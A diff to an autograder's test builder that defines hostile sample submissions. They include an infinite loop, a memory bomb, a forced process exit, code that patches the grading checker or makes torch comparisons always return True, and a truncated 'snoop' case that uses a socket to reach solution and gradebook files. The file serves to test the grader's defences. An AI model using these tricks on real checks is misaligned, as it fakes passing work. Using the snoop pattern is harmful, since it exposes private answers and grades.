@@ -43,7 +43,7 @@ def build(answered, blank, neuron_answer, course, listen_port):
     cases["k01-infinite-loop"] = (neuron("while True:\n    pass\n" + right), NEURON_TESTS, {"timeout"})
     cases["k02-memory-bomb"] = (neuron("hog = bytearray(16 * 2**30)\n" + right), NEURON_TESTS, set())
     cases["k03-exception"] = (neuron("raise ValueError('not done yet')\n" + right), NEURON_TESTS, set())
-    cases["k04-os-exit"] = (neuron("import os\nos._exit(3)\n" + right), NEURON_TESTS, {"kernel died"})
+    cases["k04-os-exit"] = (neuron("import os\nos._exit(3)\n" + right), NEURON_TESTS, {"process died"})
     cases["k04-sys-exit"] = (neuron("import sys\nsys.exit('bye')\n" + right), NEURON_TESTS, set())
 
     edited = copy.deepcopy(answered)
@@ -73,18 +73,24 @@ def build(answered, blank, neuron_answer, course, listen_port):
             cell.pop("execution_count", None)
     cases["k05-cell-type"] = (retyped, set(), {"cell type changed"})
 
+    # Tampering with the checks or the comparisons: they do not run where the answer runs.
     cases["k06-patch-checker"] = (neuron("import lib.grading\nlib.grading.check_all = lambda *a, **k: None\n" + wrong),
-                                  NEURON_TESTS, {"tampering"})
+                                  NEURON_TESTS, set())
     cases["k06-patch-torch"] = (neuron("import torch\ntorch.allclose = lambda *a, **k: True\n"
-                                       "torch.Tensor.__eq__ = lambda self, other: True\n" + wrong), NEURON_TESTS, {"tampering"})
-    cases["k06-rebind-check"] = (neuron("check_all = lambda *a, **k: None\n" + wrong), NEURON_TESTS, {"tampering"})
+                                       "torch.Tensor.__eq__ = lambda self, other: True\n" + wrong), NEURON_TESTS, set())
+    cases["k06-rebind-check"] = (neuron("check_all = lambda *a, **k: None\n" + wrong), NEURON_TESTS, set())
+    # The tests' own reference helper does not exist where the answer runs; torch's autograd is unavailable.
+    cases["k07-calls-helper"] = (neuron("def neuron_grads(x1, x2, w1, w2, b):\n"
+                                        "    return torch_neuron_grads(x1, x2, w1, w2, b)\n"), NEURON_TESTS, set())
     cases["k07-calls-reference"] = (neuron("def neuron_grads(x1, x2, w1, w2, b):\n"
-                                           "    return torch_neuron_grads(x1, x2, w1, w2, b)\n"), NEURON_TESTS, {"lib answer"})
+                                           "    t = torch.tensor(x1, requires_grad=True)\n"
+                                           "    torch.tanh(t).backward()\n"
+                                           "    return {}\n"), NEURON_TESTS, {"reference used"})
     cases["k08-always-equal"] = (neuron("class Anything(float):\n    def __eq__(self, other):\n        return True\n"
                                         "def neuron_grads(x1, x2, w1, w2, b):\n"
                                         "    return {k: Anything(0) for k in ['o','n','b','x1w1x2w2','x1w1','x2w2','x1','w1','x2','w2']}\n"),
-                                  NEURON_TESTS, {"tampering"})
-    cases["k08-lying-tensor"] = (neuron("import torch\nclass Liar(torch.Tensor):\n    pass\n" + wrong), NEURON_TESTS, {"tampering"})
+                                  NEURON_TESTS, set())
+    cases["k08-lying-tensor"] = (neuron("import torch\nclass Liar(torch.Tensor):\n    pass\n" + wrong), NEURON_TESTS, set())
     cases["k09-warning"] = (neuron(right.replace("    return grads", "    torch.tensor(torch.tensor(1.0))  # warns on stderr\n    return grads")),
                             set(), set())
     snoop = (f"import socket\nfor path in ['{course}/solutions/{LESSON}/micrograd.md', '{course}/gradebook.db',\n"
